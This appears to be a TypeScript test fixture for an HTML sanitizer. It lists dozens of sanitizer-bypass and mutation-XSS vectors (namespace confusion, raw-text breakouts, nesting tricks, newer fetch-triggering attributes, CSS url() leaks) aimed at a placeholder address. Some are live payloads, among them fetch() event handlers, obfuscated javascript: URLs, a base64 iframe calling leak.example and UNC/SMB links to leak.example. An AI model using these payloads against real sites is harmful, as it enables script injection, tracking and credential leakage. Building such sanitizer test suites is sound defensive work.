/**
 * Pages that two parsers read in two ways, and ways to the network that browsers learned since 2020. `§` stands for the
 * address that must never be asked. Written for this project after the classes of bypass that sanitizers have published.
 */

/** Foreign content, and where it ends: a browser may find an element where a cleaner saw text. */
const NAMESPACES = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=§&gt;">',
  '<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=§>">',
  '<svg></p><style><a id="</style><img src=§>">',
  '<svg><desc><table><style></desc><img src="§"></style></table></desc></svg>',
  '<math><annotation-xml encoding="text/html"><img src="§"></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><style><img src="§"></style></annotation-xml></math>',
  '<svg><foreignObject><math><mi><style></mi><img src="§"></style></math></foreignObject></svg>',
  '<svg><title><style><img src="§"></style></title></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src="§"></style>',
  '<svg><b><style><!--</style><img src="§">--></b></svg>',
  '<math><mglyph><malignmark><style><img src="§"></style></malignmark></mglyph></math>',
  '<svg><![CDATA[><image href="§"/>]]></svg>',
  '<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="§"/></svg>',
  '<svg><filter id="f"><feImage href="§"/></filter><rect filter="url(#f)"/></svg>',
  '<svg><set attributeName="href" to="§"/><animateMotion href="§"/><mpath href="§"/></svg>',
  '<svg><textPath href="§"/><linearGradient href="§"/><pattern href="§"/><cursor href="§"/></svg>',
  '<svg><style>@import "§";</style><style>*{fill:url(§#a)}</style></svg>',
  '<svg><handler type="application/javascript" href="§"/><foreignObject><body background="§"/></foreignObject></svg>',
];

/** Text that ends where one parser thinks and another does not. */
const RAW_TEXT = [
  '<noscript><p title="</noscript><img src=§>"></noscript>',
  '<title><a title="</title><img src=§>"></title>',
  '<textarea><a title="</textarea><img src=§>"></textarea>',
  '<xmp><a title="</xmp><img src=§>"></xmp>',
  '<iframe><a title="</iframe><img src=§>"></iframe>',
  '<noembed><a title="</noembed><img src=§>"></noembed>',
  '<noframes><a title="</noframes><img src=§>"></noframes>',
  '<style><a title="</style><img src=§>"></style>',
  '<script><!--<script></script><img src="§"></script>',
  '<!--!><img src="§"><!-->',
  '<!---><img src="§">-->',
  '<!-- --!><img src="§"> -->',
  '<!--><!--><img src="§">',
  '<?php echo "?><img src=§>" ?>',
  '</x <img src="§">>',
  '<img src=`§`><img src=\u00a0"§">',
  '<img\u000csrc="§"><img\u000bsrc="§"><im\u0001g src="§">',
  '<plaintext/><img src="§">',
  '<listing>\n<img src="§"></listing>',
  '<select><template><img src="§"></template><option><img src="§"></option></select>',
  '<selectedcontent><img src="§"></selectedcontent>',
];

/** Elements that close, adopt or nest each other, and templates of several kinds. */
const NESTING = [
  '<template><template><img src="§"></template></template>',
  '<template shadowrootmode="open"><img src="§"><link rel="stylesheet" href="§"></template>',
  '<div><template shadowroot="open"><style>@import "§"</style></template></div>',
  '<form id="a"><div></form><form><input name="attributes"><input name="nodeName"><img src="§"></form>',
  '<table><tr><td></tr><img src="§"><table><caption><img src="§"></table>',
  '<a href="#"><table><a href="§"><img src="§"></a></table></a>',
  '<p><svg><p><img src="§"></p></svg></p>',
  '<dl><dt><dl><dd><img src="§"></dl><button><button><img src="§"></button>',
  '<b><i><p></b><img src="§"></i></p>',
  '<frameset><frame src="§"></frameset><noframes><img src="§"></noframes>',
  '<select><svg><style><img src="§"></style></svg></select>',
  '<ruby><rp><img src="§"><rt><img src="§"></ruby><marquee><img src="§"></marquee>',
  `${'<div>'.repeat(600)}<svg><style><img src="§"></style></svg>`,
  `${'<font>'.repeat(300)}<img src="§">${'</b>'.repeat(300)}`,
  '<a is="x-leak" href="§"><img is="x-leak" src="§"></a><x-leak src="§"></x-leak>',
  '<img id="body" name="body" src="§"><form name="documentElement"><input name="head"></form>',
];

/** What loads, opens or tells, by attributes that came late. */
const NEWER = [
  '<img attributionsrc="§"><a attributionsrc="§" href="#">x</a><script attributionsrc="§"></script>',
  '<img src="§" loading="eager" fetchpriority="high"><img srcset="§ 1w" sizes="auto">',
  '<img browsingtopics src="§"><iframe sharedstoragewritable src="§"></iframe>',
  '<iframe credentialless src="§"></iframe><iframe csp="report-uri §" src="about:blank"></iframe>',
  '<iframe srcdoc="&lt;meta http-equiv=refresh content=\'0;url=§\'&gt;"></iframe>',
  '<iframe src="data:text/html;base64,PHNjcmlwdD5mZXRjaCgnaHR0cDovL2xlYWsuZXhhbXBsZScpPC9zY3JpcHQ+"></iframe>',
  '<iframe src="blob:§"></iframe><iframe src="view-source:§"></iframe><iframe src="filesystem:§"></iframe>',
  '<link rel="preload" as="image" imagesrcset="§ 1x" imagesizes="1px">',
  '<link rel="compression-dictionary" href="§"><link rel="expect" href="§" blocking="render">',
  '<link rel="search" type="application/opensearchdescription+xml" href="§"><link rel="me" href="§">',
  '<link rel="payment-method-manifest" href="§"><link rel="monetization" href="§">',
  '<link rel="stylesheet" href="data:text/css,@import url(§)">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<img src=§>">',
  '<meta http-equiv="Link" content="<§>; rel=preload"><meta http-equiv="Report-To" content="{}"><meta http-equiv="origin-trial" content="§">',
  '<meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Accept-CH" content="DPR"><a href="§">x</a>',
  '<meta name="monetization" content="§"><meta name="twitter:image" content="§"><meta itemprop="image" content="§">',
  '<script type="speculationrules">{"prerender":[{"urls":["§"],"eagerness":"immediate"}]}</script>',
  '<script type="speculationrules" src="§"></script><script type="webbundle">{"source":"§","scopes":["§"]}</script>',
  '<script type="importmap" src="§"></script><script src="§" integrity="sha384-x" crossorigin></script>',
  '<fencedframe config="§" mode="opaque-ads"></fencedframe><portal src="§" referrerpolicy="unsafe-url"></portal>',
  '<button popovertarget="p" interesttarget="p">x</button><div id="p" popover ontoggle="fetch(\'§\')"><img src="§"></div>',
  '<button commandfor="d" command="show-modal">x</button><dialog id="d" open oncommand="fetch(\'§\')"><img src="§"></dialog>',
  '<div onscrollsnapchange="fetch(\'§\')" oncontentvisibilityautostatechange="fetch(\'§\')" onbeforematch="fetch(\'§\')" hidden="until-found">x</div>',
  '<input type="hidden" popover onbeforetoggle="fetch(\'§\')"><geolocation onlocation="fetch(\'§\')"></geolocation>',
  '<model src="§"></model><model-viewer src="§"></model-viewer><video src="§" disableremoteplayback></video>',
  '<a href="web+leak:§">x</a><a href="intent://x#Intent;S.browser_fallback_url=§;end">x</a>',
  '<a href="ms-word:ofe|u|§">x</a><a href="search-ms:query=x&crumb=location:\\\\leak.example">x</a>',
  '<a href="smb://leak.example/x">x</a><a href="\\\\leak.example\\x">x</a><img src="\\\\leak.example\\x.png">',
  '<a href="javascript&colon;fetch(\'§\')">x</a><a href="&#x01;javascript:fetch(\'§\')">x</a><a href="jav&#x0A;ascript:fetch(\'§\')">x</a>',
  '<a href="data:application/x-x509-user-cert;base64,AAAA">x</a><a href="blob:§">x</a>',
];

/** Styles, for the screen and for paper. */
const STYLES = [
  '<style>@media print{body{background:url(§)} body::after{content:url(§)} @page{background:url(§)}}</style>',
  '<link rel="stylesheet" media="print" href="§"><style media="print">@import "§";</style>',
  '<style>@page{@top-left{content:url(§)}} @import "§" layer(x) supports(display:grid) print;</style>',
  '<style>p{background:image-set(url(§) 1x, "§" 2x);background:-webkit-image-set(url(§) 1x)}</style>',
  '<style>p{background:cross-fade(url(§),url(§),50%);background:image("§");background:src("§")}</style>',
  '<style>p{--a:url(§);background:var(--a);background-image:var(--b,url(§))}</style>',
  '<style>@property --u{syntax:"<url>";inherits:true;initial-value:url(§)} p{background:var(--u)}</style>',
  '<style>@container (width>1px){p{background:url(§)}} @scope (p){:scope{background:url(§)}} @layer x{p{background:url(§)}}</style>',
  '<style>p{&:hover,&{background:url(§)}} @starting-style{p{background:url(§)}}</style>',
  '<style>input[value^="a"]{background:url(§)} ::selection{background:url(§)} ::marker{content:url(§)}</style>',
  '<style>@counter-style x{system:cyclic;symbols:url(§)} li{list-style:x}</style>',
  '<style>@font-face{font-family:a;src:local(x),url(§) format("woff2");unicode-range:U+41}</style>',
  '<style>p{offset-path:url(§#a);clip-path:url(§#b);mask:url(§#c);filter:url(§#d);shape-outside:url(§)}</style>',
  '<style>p{border-image-source:url(§);cursor:image-set("§" 1x),auto;-webkit-box-reflect:below 0 url(§)}</style>',
  '<style>@import/**/"§";@import\\20 url(§);@\\69mport "§";</style>',
  '<style>p{background:url(ht\\74p://leak.example/x)}</style><p style="background:\\75rl(§)">x</p>',
  '<style>/*</style><img src="§">*/</style>',
  '<p style="background:image-set(&quot;§&quot; 1x)">x</p><p style="content:url(§);mask-image:url(§)">x</p>',
  '<body style="background:url(§)" text="x"><table style="border-image:url(§)"><td style="list-style:url(§)">x</td></table>',
  '<?xml-stylesheet type="text/xsl" href="§"?><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:include href="§"/></x:stylesheet>',
];

/** Every confusing vector, with an address of its own put in. */
export function confusingVectors(address: (index: number) => string): string[] {
  return [...NAMESPACES, ...RAW_TEXT, ...NESTING, ...NEWER, ...STYLES].map((vector, index) =>
    vector.replaceAll('§', address(index)),
  );
}

/** Tags out of which confusing pages are put together at random. */
export const CONFUSING_TAGS = [
  'svg',
  'math',
  'mtext',
  'mglyph',
  'annotation-xml encoding="text/html"',
  'foreignObject',
  'desc',
  'title',
  'style',
  'script',
  'noscript',
  'template',
  'table',
  'form',
  'select',
  'textarea',
  'xmp',
  'p',
  'a href="#"',
  'b',
] as const;
